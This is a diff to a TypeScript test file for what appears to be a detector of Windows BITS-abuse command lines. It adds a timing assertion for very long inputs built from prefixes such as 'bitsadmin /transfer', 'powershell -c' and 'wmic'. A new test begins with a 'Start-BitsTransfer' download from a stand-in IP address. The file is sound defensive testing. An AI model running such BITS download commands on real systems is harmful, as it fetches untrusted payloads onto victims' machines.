@@ -10,10 +10,13 @@ const shapes: readonly (readonly [string, string])[] = [
 ];
 
 test.each(shapes)('a million characters of %j end', (_, text) => {
+  const from = performance.now();
   for (const line of [text, `cmd /c ${text}`, `bitsadmin ${text}`, `bitsadmin /transfer ${text}`, `powershell -c ${text}`, `powershell -c bits ${text}`, `wmic bits ${text}`]) processFacts(line);
   scriptFacts(`bits ${text}`);
   processFacts('a', { ParentCommandLine: `svchost ${text}`, ParentImage: 'svchost.exe' });
-}, 20_000);
+  // Nine readings; the slowest took half a second here. What goes back over its text needs minutes.
+  expect(performance.now() - from).toBeLessThan(20_000);
+});
 
 test('commands within commands, encoded again and again', () => {
   let script = 'Start-BitsTransfer http://198.51.100.7/a C:\\d\\a';
